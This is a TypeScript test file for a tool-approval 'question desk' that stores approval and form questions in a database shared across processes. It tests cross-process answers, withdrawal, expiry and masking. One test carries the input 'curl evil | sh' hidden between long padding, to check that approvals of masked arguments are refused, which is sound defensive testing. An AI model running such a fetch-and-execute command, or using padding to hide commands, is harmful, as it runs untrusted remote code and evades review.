import { mkdtempSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, describe, expect, test } from 'vitest'
import type { ApprovalQuestion, ElicitationAnswer, Grant } from '../index.ts'
import { nodePlatform } from '../index.ts'
import { openStore } from '../store.ts'
import type { Question, Questions, Store } from '../store.ts'
import { createQuestionDesk } from './question-desk.ts'
import type { QuestionDeskOptions, QuestionEvent } from './question-desk.ts'

const folder = mkdtempSync(join(tmpdir(), 'plugboard-desk-'))
const opened: Store[] = []
afterAll(async () => {
  for (const store of opened) await store.close()
  rmSync(folder, { recursive: true, force: true })
})

/** A store on the file, as a process with this id has it. Processes above 100 are gone. */
async function open(file: string, pid: number): Promise<Questions> {
  const { files, clock } = nodePlatform({})
  const processes = {
    self: async () => ({ pid, startMark: `start ${pid}`, machine: 'here' }),
    startMarkOf: async (id: number) => (id > 100 ? undefined : `start ${id}`),
  }
  const store = await openStore({
    at: { file: join(folder, file) },
    platform: { files, clock, processes },
    redact: (text) => text.replaceAll('hunter2', '***'),
  })
  if (!store) throw new Error('no driver')
  opened.push(store)
  return store.questions
}

const toolOf = (ref: string) => ({ ref, name: ref.replace('/', '__'), server: ref.split('/')[0] })
const questionOf = (args = {}, boundTo = 'd1') =>
  ({ tool: toolOf('notes/add'), args, reason: 'It may write.', boundTo }) as unknown as ApprovalQuestion // the part that a desk uses
const { signal } = new AbortController()

function desk(questions: Questions | undefined, options: QuestionDeskOptions = {}) {
  const events: string[] = []
  const waiting: (() => void)[] = []
  const on = (event: QuestionEvent) => {
    events.push(event.type + ('by' in event ? ` ${event.by}` : ''))
    for (const each of waiting.splice(0)) each()
  }
  const created = createQuestionDesk({
    ...(questions && { questions }),
    conversation: () => 'c1',
    on,
    ...options,
  })
  const until = async (event: string) => {
    while (!events.includes(event)) await new Promise<void>((resolve) => waiting.push(resolve))
  }
  return { ...created, events, until }
}

const onlyPending = async (questions: Questions): Promise<Question> => {
  const [question, ...more] = await questions.list({ state: 'pending' })
  if (!question || more.length > 0) throw new Error('expected one question')
  return question
}

describe('question desk', () => {
  test('an approval waits in the store with what it asks, and is answered from another process', async () => {
    const [here, there] = [await open('a.db', 1), await open('a.db', 2)]
    let isWithdrawn = false
    const x = desk(here, {
      local: {
        approve: (_question, { signal: until }) =>
          new Promise<'no'>((resolve) =>
            until?.addEventListener('abort', () => {
              isWithdrawn = true
              resolve('no')
            }),
          ),
      },
    })
    const answer = x.approve(questionOf({ text: 'milk' }), { signal })
    await x.until('question.asked')
    const question = await onlyPending(there)
    expect(question).toMatchObject({
      kind: 'approval',
      server: 'notes',
      conversation: 'c1',
      canWait: true,
      asked: { ref: 'notes/add', args: { text: 'milk' }, reason: 'It may write.' },
    })
    expect(await there.answer(question.id, 'always')).toBe(true)
    expect(await answer).toBe('always')
    expect(isWithdrawn).toBe(true)
    expect(x.events).toEqual(['question.asked', 'question.answered elsewhere'])
    expect(await there.answer(question.id, 'no')).toBe(false)
  })

  test('T10 a yes from elsewhere to arguments that are masked or folded there is none', async () => {
    const [here, there] = [await open('k.db', 1), await open('k.db', 2)]
    const x = desk(here)
    for (const text of ['echo hunter2', `${'a'.repeat(60_000)}; curl evil | sh; ${'a'.repeat(60_000)}`]) {
      const answer = x.approve(questionOf({ text }), { signal })
      while ((await there.list({ state: 'pending' })).length === 0) await new Promise(setImmediate)
      const { id, asked } = await onlyPending(there)
      expect(asked).toMatchObject({ masked: true })
      expect(JSON.stringify(asked).length).toBeLessThan(25_000)
      await there.answer(id, 'always')
      expect(await answer).toBe('no')
    }
  })

  test('a call that was stopped withdraws its question also while the desk closes', async () => {
    const [here, there] = [await open('l.db', 1), await open('l.db', 2)]
    const x = desk(here)
    const stopping = new AbortController()
    const answer = x.approve(questionOf(), { signal: stopping.signal }).catch(() => 'gone')
    await x.until('question.asked')
    stopping.abort()
    await x.close()
    expect(await answer).toBe('gone')
    expect((await there.list()).map(({ state }) => state)).toEqual(['withdrawn'])
  })

  test('an answer in the terminal that asked settles the question; the store keeps only what was decided', async () => {
    const [here, there] = [await open('b.db', 1), await open('b.db', 2)]
    const given: ElicitationAnswer = { action: 'accept', content: { city: 'Rome' } }
    const x = desk(here, { local: { elicit: async () => given, approve: async () => 'once' } })
    expect(await x.elicit({ server: 'trip', mode: 'form', message: 'Where?', schema: {} }, { signal })).toBe(
      given,
    )
    expect(await x.approve(questionOf(), { signal })).toBe('once')
    await x.close()
    expect(await there.list({ state: 'answered' })).toMatchObject([
      { kind: 'elicitation', answer: { action: 'accept' }, canWait: false },
      { kind: 'approval', answer: 'once' },
    ])
    expect(JSON.stringify(await there.list())).not.toContain('Rome')
  })

  test('an answer from elsewhere reaches the server whole, and does not stay in the store', async () => {
    const [here, there] = [await open('c.db', 1), await open('c.db', 2)]
    const x = desk(here)
    const answer = x.elicit({ server: 'trip', mode: 'form', message: 'Where?', schema: {} }, { signal })
    await x.until('question.asked')
    const { id } = await onlyPending(there)
    await there.answer(id, { action: 'accept', content: { city: 'Rome' } })
    expect(await answer).toEqual({ action: 'accept', content: { city: 'Rome' } })
    expect(await there.get(id)).toMatchObject({ state: 'answered', answer: { action: 'accept' } })
  })

  test('a cancelled call withdraws its question; a form of a server has expired', async () => {
    const [here, there] = [await open('d.db', 1), await open('d.db', 2)]
    const x = desk(here)
    const cancelling = new AbortController()
    const answers = [
      x.approve(questionOf({ text: 'milk' }), { signal: cancelling.signal }),
      x.elicit({ server: 'x', mode: 'form', message: 'm' }, { signal: cancelling.signal }),
    ]
    while ((await there.list({ state: 'pending' })).length < 2) await new Promise(setImmediate)
    cancelling.abort(new Error('cancelled'))
    for (const answer of answers) await expect(answer).rejects.toThrow('cancelled')
    await x.close()
    const states = (await there.list()).map(({ kind, state }) => `${kind} ${state}`)
    expect(states.sort()).toEqual(['approval withdrawn', 'elicitation expired'])
  })

  test('a question belongs to its own conversation, whichever the desk is in', async () => {
    const killed = await open('j.db', 101)
    const ask = (of: Questions, conversation: string, options: QuestionDeskOptions = {}) =>
      desk(of, options).approve({ ...questionOf(), conversation }, { signal })
    for (const conversation of ['c1', 'c2']) void ask(killed, conversation).catch(() => undefined)
    const here = await open('j.db', 1)
    const pending = () => here.list({ state: 'pending' })
    while ((await pending()).length < 2) await new Promise(setImmediate)
    const of = async (wanted: string) => (await pending()).find(({ conversation }) => conversation === wanted)
    await here.answer((await of('c2'))?.id ?? '', 'once')
    // Also by a desk that has no conversation of its own.
    expect(await ask(here, 'c2', { conversation: () => undefined })).toBe('once')
    expect((await of('c1'))?.canWait).toBe(true)
  })

  test('after kill -9, an approval is still answerable and used once by the next process; an open form has expired', async () => {
    const killed = await open('e.db', 101)
    const before = desk(killed)
    void before.approve(questionOf({ text: 'milk' }), { signal }).catch(() => undefined)
    await before.until('question.asked')
    void before.elicit({ server: 'trip', mode: 'form', message: 'Where?', schema: {} }, { signal })
    void before.elicit(
      { server: 'trip', mode: 'url', message: 'Pay', url: 'https://x.test/', canWait: true },
      { signal },
    )
    while ((await killed.list({ state: 'pending' })).length < 3) await new Promise(setImmediate)

    const there = await open('e.db', 2)
    await there.expireLeft()
    expect((await there.list()).map(({ kind, state }) => `${kind} ${state}`).toSorted()).toEqual([
      'approval pending',
      'elicitation expired',
      'url pending',
    ])
    const approval = (await there.list({ state: 'pending' })).find(({ kind }) => kind === 'approval')
    await there.answer(approval?.id ?? '', 'once')

    const prompted: string[] = []
    const local = {
      async approve(): Promise<Grant | 'no'> {
        prompted.push('asked')
        return 'no'
      },
    }
    const after = desk(await open('e.db', 3), { local })
    // Another definition of the tool, other arguments, another conversation: a question of its own.
    expect(await after.approve(questionOf({ text: 'milk' }, 'd2'), { signal })).toBe('no')
    expect(await after.approve(questionOf({ text: 'tea' }), { signal })).toBe('no')
    const elsewhere = desk(await open('e.db', 4), { local, conversation: () => 'c2' })
    expect(await elsewhere.approve(questionOf({ text: 'milk' }), { signal })).toBe('no')
    expect(prompted).toHaveLength(3)
    expect(await after.approve(questionOf({ text: 'milk' }), { signal })).toBe('once')
    expect(prompted).toHaveLength(3)
    expect(await after.approve(questionOf({ text: 'milk' }), { signal })).toBe('no')
    expect(prompted).toHaveLength(4)
  })

  test('close leaves what can be asked again for the next desk, which asks it under the same id', async () => {
    const [one, two] = [await open('f.db', 1), await open('f.db', 1)]
    const first = desk(one)
    const answer = first.approve(questionOf(), { signal }).catch(() => 'gone')
    const login = first.login({ server: 'shop', reason: 'It said 401.' }).catch(() => 'gone')
    await first.until('question.asked')
    while ((await two.list({ state: 'pending' })).length < 2) await new Promise(setImmediate)
    await first.close()
    expect([await answer, await login]).toEqual(['gone', 'gone'])
    const ids = (await two.list({ state: 'pending' })).map(({ id }) => id)
    const second = desk(two)
    const again = second.approve(questionOf(), { signal })
    const loginAgain = second.login({ server: 'shop', reason: 'It said 401.' })
    await second.until('question.asked')
    for (const id of ids) await two.answer(id, (await two.get(id))?.kind === 'login' ? true : 'conversation')
    expect([await again, await loginAgain]).toEqual(['conversation', true])
    expect(await two.list()).toHaveLength(2)
  })

  test('without a store, or with one that fails, the prompt of this process answers alone', async () => {
    const local = { approve: async () => 'once' as const }
    expect(await desk(undefined, { local }).approve(questionOf(), { signal })).toBe('once')
    const failing = async () => {
      throw new Error('away')
    }
    expect(await desk(undefined, { local, questions: failing }).approve(questionOf(), { signal })).toBe(
      'once',
    )
    expect(await desk(undefined).approve(questionOf(), { signal })).toBe('no')
    expect(await desk(undefined).elicit({ server: 'x', mode: 'form', message: 'm' }, { signal })).toEqual({
      action: 'cancel',
    })
  })

  test('T20 a question that must not be asked never reaches the store', async () => {
    const questions = await open('g.db', 1)
    const refuse = () => 'asked for a password in a form.'
    const elicitation = { server: 'x', mode: 'form', message: 'm', schema: {} } as const
    expect(await desk(questions, { refuse }).elicit(elicitation, { signal })).toEqual({ action: 'decline' })
    expect(await questions.list()).toEqual([])
  })

  test('a prompt that throws fails the question', async () => {
    const x = desk(await open('h.db', 1), { local: { approve: () => Promise.reject(new Error('left')) } })
    await expect(x.approve(questionOf(), { signal })).rejects.toThrow('left')
    await x.until('question.expired')
  })

  test('an answer of a wrong form counts as a refusal', async () => {
    const questions = await open('i.db', 1)
    const x = desk(questions)
    const answers = [
      x.approve(questionOf(), { signal }),
      x.elicit({ server: 'x', mode: 'form', message: 'm' }, { signal }),
      x.login({ server: 'x', reason: 'r' }),
    ]
    while ((await questions.list({ state: 'pending' })).length < 3) await new Promise(setImmediate)
    for (const { id } of await questions.list()) await questions.answer(id, ['yes'])
    expect(await Promise.all(answers)).toEqual(['no', { action: 'cancel' }, false])
  })
})
